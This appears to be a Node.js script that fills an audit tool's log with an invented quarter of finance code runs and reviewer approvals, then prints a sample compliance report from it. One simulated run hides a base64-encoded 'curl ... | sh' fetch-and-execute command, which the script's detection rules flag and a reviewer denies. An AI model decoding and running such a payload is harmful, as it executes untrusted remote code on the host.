#!/usr/bin/env node
// Makes docs/sample-report.pdf and .html from a quarter of invented work, written and read through the audit record
// itself. `node scripts/sample-report.mjs [FOLDER]` (Node 24; the PDF needs a Chromium).
import { createHash, createPrivateKey, generateKeyPairSync, sign } from 'node:crypto'
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { canonical } from '../resources/verify.mjs'
import { chromiumPrinter, createAudit } from '../src/audit/audit.ts'
import { CellId, ConversationId, PathId, RequestId, RunId, SandboxId, TenantId, UserId } from '../src/contract/ids.ts'
import { uuidV7 } from '../src/ids.ts'
import { fileKeyStore } from '../src/keystore.ts'
import { openStorage } from '../src/storage/storage.ts'

const target = process.argv[2] ?? fileURLToPath(new URL('../docs', import.meta.url))
const folder = mkdtempSync(join(tmpdir(), 'countersign-sample-'))
let now = Date.UTC(2026, 6, 1, 7, 58)
const clock = { now: () => now, after: () => () => undefined }
const ids = uuidV7(clock)
const tenant = ids.make(TenantId)
const storage = await openStorage({ file: join(folder, 'countersign.db'), clock })
const audit = await createAudit({ storage, keys: fileKeyStore(join(folder, 'keys')), clock, ids, folder, tenant })

let seed = 2026
const random = () => {
  seed = (Math.imul(seed, 1664525) + 1013904223) >>> 0
  return seed / 2 ** 32
}
const pick = values => values[Math.floor(random() * values.length)]
const minutes = count => (now += Math.round(count * 60_000))
const hashOf = text => createHash('sha256').update(text).digest('hex')

const people = Object.fromEntries(
  ['Maeve Brennan', 'Tomás Keane', 'Ingrid Solberg', 'Rohan Mehta'].map(name => {
    const { privateKey, publicKey } = generateKeyPairSync('ed25519')
    const spki = publicKey.export({ format: 'der', type: 'spki' }).toString('base64')
    return [
      name,
      {
        id: ids.make(UserId),
        name,
        privateKey: createPrivateKey(privateKey.export({ format: 'pem', type: 'pkcs8' })),
        spki,
      },
    ]
  }),
)
const [maeve, tomas, ingrid, rohan] = Object.values(people)
const conversations = ['Capital review Q3', 'VAT return, July', 'IRRBB sensitivities'].map(title => ({
  title,
  id: ids.make(ConversationId),
  path: ids.make(PathId),
}))

const record = event => audit.record({ tenant, actor: null, details: {}, ...event })
const noImpact = {
  filesRead: [],
  filesWritten: [],
  filesDeleted: [],
  hosts: [],
  commands: [],
  dataModified: [],
  volume: 'none',
  reversible: 'yes',
  blastRadius: 'contained',
  estimate: { time: 'instant', memory: 'small' },
}
const place = (target, line, expression = JSON.stringify(target)) => ({ target, expression, lines: [line] })

async function decide(run, { reviewer, verdict, comment, risk, code, sandbox, conversation, path, findings }) {
  const request = ids.make(RequestId)
  const about = { run, request, conversation, path }
  await record({
    ...about,
    action: 'approval.requested',
    actor: maeve.id,
    details: { risk, sandbox, codeHash: hashOf(code), needs: 'four-eyes', findings },
  })
  minutes(3 + random() * 20)
  const statement = {
    format: 'countersign.decision.1',
    verdict,
    request,
    subject: hashOf(canonical({ code, run })),
    reviewer: reviewer.id,
    comment,
    decidedAt: now,
  }
  const signature = sign(null, Buffer.from(canonical(statement)), reviewer.privateKey).toString('base64')
  const details = { ...statement, signature, publicKey: reviewer.spki, codeHash: hashOf(code), risk, sandbox }
  await record({ ...about, action: 'approval.decided', actor: reviewer.id, details })
  return {
    by: 'reviewer',
    verdict,
    reviewer: reviewer.id,
    request,
    subject: statement.subject,
    signature,
    comment,
    decidedAt: now,
    policy: hashOf('policy'),
    reasons: [],
    nonce: '0'.repeat(32),
    expiresAt: now + 3_600_000,
  }
}

const byPolicy = () => ({
  by: 'policy',
  verdict: 'approve',
  reviewer: null,
  request: null,
  subject: hashOf(String(now)),
  signature: null,
  comment: '',
  decidedAt: now,
  policy: hashOf('policy'),
  reasons: [],
  nonce: '0'.repeat(32),
  expiresAt: now + 3_600_000,
})

async function run({
  who,
  conversation,
  code,
  language = 'python',
  risk = 'low',
  sandbox = 'local',
  violations = [],
  impact = {},
  review,
  result = {},
}) {
  const id = ids.make(RunId)
  const cell = ids.make(CellId)
  const about = { run: id, conversation: conversation.id, path: conversation.path, cell, actor: who.id }
  const codeHash = hashOf(code)
  const common = { codeHash, language, sandbox, risk }
  const decision = review
    ? await decide(id, {
        ...review,
        risk,
        code,
        sandbox,
        conversation: conversation.id,
        path: conversation.path,
        findings: violations,
      })
    : byPolicy()
  minutes(0.2)
  if (decision.verdict === 'deny') {
    const details = { ...common, code: 'approval.denied', reason: `The reviewer denied this run: ${decision.comment}` }
    await record({ ...about, request: decision.request, action: 'run.refused', details, bodies: { code } })
    return
  }
  const limits = {
    timeoutMs: 60_000,
    memoryBytes: 536_870_912,
    processes: 64,
    fileBytes: 268_435_456,
    diskBytes: 1_073_741_824,
    outputChars: 50_000,
  }
  const intent = { ...common, limits, network: [], violations, impact: { ...noImpact, ...impact }, decision }
  await record({
    ...about,
    ...(decision.request && { request: decision.request }),
    action: 'run.intended',
    details: intent,
    bodies: { code },
  })
  if (result.interrupted) {
    minutes(2)
    await record({ action: 'application.started', details: { version: '0.1.0' } })
    return
  }
  const {
    stdout = '',
    stderr = '',
    success = true,
    exitCode = 0,
    error = null,
    files = {},
    network = [],
    warnings = [],
    ms = 20 + random() * 400,
  } = result
  minutes(ms / 60_000)
  await record({
    ...about,
    action: 'run.finished',
    details: {
      ...common,
      success,
      exitCode,
      error,
      network,
      warnings,
      truncated: false,
      sandboxId: ids.make(SandboxId),
      isolation: sandbox === 'docker' ? 'container' : 'jail',
      executionTimeMs: Math.round(ms),
      cpuTimeMs: Math.round(ms * 0.8),
      peakMemoryBytes: Math.round((38 + random() * 120) * 2 ** 20),
      files: { created: [], modified: [], deleted: [], ...files },
    },
    bodies: { ...(stdout && { stdout }), ...(stderr && { stderr }) },
  })
}

const routine = [
  {
    code: 'rwa = (exposures.amount * exposures.weight).sum()\nprint(f"RWA {rwa:,.0f} EUR")\n',
    result: { stdout: 'RWA 4,182,660,114 EUR\n' },
  },
  { code: 'cet1 = own_funds / rwa * 100\nprint(f"CET1 {cet1:.2f} %")\n', result: { stdout: 'CET1 12.91 %\n' } },
  { code: 'vat = round(net * 0.23, 2)\nprint(vat)\n', result: { stdout: '18430.57\n' } },
  {
    code: 'exposures.groupby("rating").amount.sum()\n',
    result: { stdout: 'AAA   612300114\nAA    988210050\nA    1201445871\n' },
  },
  {
    code: 'curve["+200bp"] = curve.base + 0.02\nprint(eve(curve["+200bp"]) - eve(curve.base))\n',
    result: { stdout: '-38114902.44\n' },
  },
  {
    code: 'print(total / count)\n',
    result: {
      success: false,
      exitCode: 1,
      error: { kind: 'runtime', name: 'ZeroDivisionError' },
      stderr: 'ZeroDivisionError: division by zero\n',
    },
  },
  {
    code: 'const rate = 0.135\nconsole.log((net * rate).toFixed(2))\n',
    language: 'typescript',
    result: { stdout: '9213.08\n' },
  },
]

const medium = [
  {
    code: 'exposures.to_csv("out/exposures-q3.csv", index=False)\n',
    risk: 'medium',
    impact: { filesWritten: [place('out/exposures-q3.csv', 1)], volume: 'single', blastRadius: 'local' },
    violations: [{ rule: 'python/file-write', type: 'unsafe-file', severity: 'medium', line: 1 }],
    review: { reviewer: tomas, verdict: 'approve', comment: 'Writes the working file only.' },
    result: { files: { created: ['out/exposures-q3.csv'] } },
  },
]

const risky = [
  {
    who: maeve,
    conversation: conversations[0],
    risk: 'high',
    language: 'bash',
    code: '#!/usr/bin/env bash\nset -euo pipefail\n\n# Start the quarter from an empty output folder.\nrm -r out/\nmkdir -p out/tables\npython3 build_tables.py --quarter 2026Q3 --in data/exposures.csv --weights data/risk-weights-crr3.csv --target out/tables --format csv --locale en-IE --rounding half-even --log out/build.log\n',
    violations: [
      { rule: 'bash/recursive-delete', type: 'deletion', severity: 'high', line: 5 },
      { rule: 'bash/process', type: 'process', severity: 'medium', line: 7 },
    ],
    impact: {
      filesRead: [place('data/exposures.csv', 7), place('data/risk-weights-crr3.csv', 7)],
      filesWritten: [place('out/tables', 6), place('out/build.log', 7)],
      filesDeleted: [place('out/', 5)],
      commands: [place('rm', 5), place('mkdir', 6), place('python3', 7)],
      volume: 'many',
      reversible: 'no',
      blastRadius: 'local',
    },
    review: {
      reviewer: tomas,
      verdict: 'approve',
      comment: 'The output folder is rebuilt from data/ on every run; nothing in it is an original.',
    },
    result: {
      stdout: 'read 12,400 exposures\nwrote 14 tables\n',
      files: { created: ['out/tables/rwa.csv', 'out/tables/cet1.csv', 'out/build.log'], deleted: ['out/q2.csv'] },
      ms: 4210,
    },
  },
  {
    who: rohan,
    conversation: conversations[2],
    risk: 'critical',
    code: 'import base64, subprocess\n\npayload = "Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC43L3guc2ggfCBzaA=="\nsubprocess.run(base64.b64decode(payload).decode(), shell=True)\n',
    violations: [
      { rule: 'python/encoded-payload', type: 'obfuscation', severity: 'high', line: 3 },
      { rule: 'python/shell-command', type: 'command-injection', severity: 'critical', line: 4 },
    ],
    impact: {
      commands: [{ target: null, expression: 'base64.b64decode(payload).decode()', lines: [4] }],
      volume: 'unknown',
      reversible: 'unknown',
      blastRadius: 'system',
    },
    review: {
      reviewer: ingrid,
      verdict: 'deny',
      comment: 'A command hidden in base64 has no place in a sensitivity run. Copied from a forum answer; Rohan knows.',
    },
  },
  {
    who: ingrid,
    conversation: conversations[2],
    risk: 'high',
    sandbox: 'docker',
    code: 'import json\nimport urllib.request\n\n# Reference rates of the day, from the central bank.\nwith urllib.request.urlopen("https://data-api.ecb.europa.eu/service/data/FM/B.U2.EUR.4F.KR.MRR_FR.LEV?format=jsondata") as answer:\n    rates = json.load(answer)\n\nlatest = rates["dataSets"][0]["series"]["0:0:0:0:0:0:0"]["observations"]\nprint("main refinancing rate", list(latest.values())[-1][0])\n\nwith open("rates.json", "w") as file:\n    json.dump(rates, file)\n',
    violations: [
      { rule: 'python/network', type: 'network', severity: 'high', line: 5 },
      { rule: 'python/file-write', type: 'unsafe-file', severity: 'medium', line: 11 },
    ],
    impact: {
      hosts: [place('data-api.ecb.europa.eu', 5)],
      filesWritten: [place('rates.json', 11)],
      volume: 'few',
      blastRadius: 'network',
    },
    review: { reviewer: tomas, verdict: 'approve', comment: 'Public source, host rule granted for this run only.' },
    result: {
      stdout: 'main refinancing rate 2.15\n',
      files: { created: ['rates.json', '.cache/cookies.db'] },
      network: [
        { host: 'data-api.ecb.europa.eu', port: 443, protocol: 'https', allowed: true },
        { host: 'telemetry.example.net', port: 443, protocol: 'https', allowed: false, reason: 'no rule allows it' },
      ],
      ms: 1840,
    },
  },
  {
    who: maeve,
    conversation: conversations[1],
    risk: 'high',
    code: 'import sqlite3\n\nledger = sqlite3.connect("data/ledger.db")\nledger.execute("update postings set vat_code = \'S23\' where vat_code = \'S21\' and booked >= \'2026-07-01\'")\nledger.commit()\nprint(ledger.total_changes, "postings changed")\n',
    violations: [{ rule: 'python/sql-update', type: 'database', severity: 'high', line: 4 }],
    impact: {
      dataModified: [place('postings', 4)],
      filesWritten: [place('data/ledger.db', 3)],
      volume: 'many',
      reversible: 'no',
      blastRadius: 'local',
    },
    review: {
      reviewer: ingrid,
      verdict: 'approve',
      comment: 'Agreed with the ledger team; backup of 1 July is in place.',
    },
    result: {
      success: false,
      exitCode: 1,
      error: { kind: 'runtime', name: 'sqlite3.OperationalError' },
      stderr: 'sqlite3.OperationalError: database is locked\n',
      ms: 5020,
    },
  },
  {
    who: rohan,
    conversation: conversations[0],
    risk: 'critical',
    language: 'python',
    code: 'import shutil, os\n\nfor folder in os.listdir("archive"):\n    if folder < os.environ["KEEP_FROM"]:\n        shutil.rmtree(os.path.join("archive", folder))\n',
    violations: [
      { rule: 'python/recursive-delete', type: 'deletion', severity: 'critical', line: 5 },
      { rule: 'python/environment', type: 'system-access', severity: 'medium', line: 4 },
    ],
    impact: {
      filesRead: [place('archive', 3)],
      filesDeleted: [{ target: null, expression: 'os.path.join("archive", folder)', lines: [5] }],
      volume: 'many',
      reversible: 'no',
      blastRadius: 'local',
    },
    review: { reviewer: ingrid, verdict: 'approve', comment: 'KEEP_FROM is 2019; list of folders checked with Rohan.' },
    result: { interrupted: true },
  },
]

await record({ action: 'application.started', details: { version: '0.1.0' } })
for (const person of Object.values(people)) {
  await record({
    action: 'identity.created',
    actor: maeve.id,
    details: { identity: person.id, name: person.name, publicKey: person.spki, protected: true },
  })
}
for (const { id, title } of conversations)
  await record({ action: 'conversation.created', actor: maeve.id, conversation: id, details: { title } })

let next = 0
for (let day = 0; day < 92; day++) {
  const weekday = new Date(now).getUTCDay()
  const dayStart = now
  if (weekday !== 0 && weekday !== 6) {
    minutes(30)
    for (let count = Math.floor(2 + random() * 7); count > 0; count--) {
      await run({
        who: pick([maeve, rohan, ingrid]),
        conversation: pick(conversations),
        sandbox: random() < 0.8 ? 'local' : 'docker',
        ...pick(routine),
      })
      minutes(4 + random() * 30)
    }
    if (random() < 0.3) await run({ who: rohan, conversation: conversations[0], ...pick(medium) })
    if (day >= 8 + 17 * next && risky[next]) await run(risky[next++])
    if (day % 30 === 20)
      await record({
        action: 'reviewer.logged-in',
        actor: ingrid.id,
        details: { identity: ingrid.id, name: ingrid.name, protected: true },
      })
  }
  if (day === 34)
    await record({
      action: 'policy.changed',
      actor: tomas.id,
      details: {
        before: hashOf('policy').slice(0, 16),
        after: hashOf('policy 2').slice(0, 16),
        change: 'operations.network: approve → four-eyes',
      },
    })
  if (day === 50)
    await record({
      action: 'settings.changed',
      actor: tomas.id,
      details: { setting: 'audit.retentionDays', from: 90, to: 2555 },
    })
  if (day === 61)
    await record({
      action: 'privacy.revealed',
      actor: ingrid.id,
      conversation: conversations[1].id,
      details: { token: '[PPSN_2]', rule: 'ppsn', reason: 'query of Revenue, ref. 2026-0817' },
    })
  if (day === 45) await audit.rotateKey(tomas.id, 'quarterly rotation')
  if (day === 75) await audit.verify({ actor: tomas.id })
  now = dayStart + 86_400_000
}

const scope = { kind: 'period', from: Date.UTC(2026, 6, 1), to: Date.UTC(2026, 9, 1) - 1 }
const request = { scope, actor: tomas.id, title: 'Compliance report, third quarter 2026', printPdf: chromiumPrinter() }
mkdirSync(target, { recursive: true })
for (const format of ['html', 'pdf'])
  writeFileSync(join(target, `sample-report.${format}`), (await audit.reportFile({ ...request, format })).bytes)
await audit.close()
await storage.close()
rmSync(folder, { recursive: true })
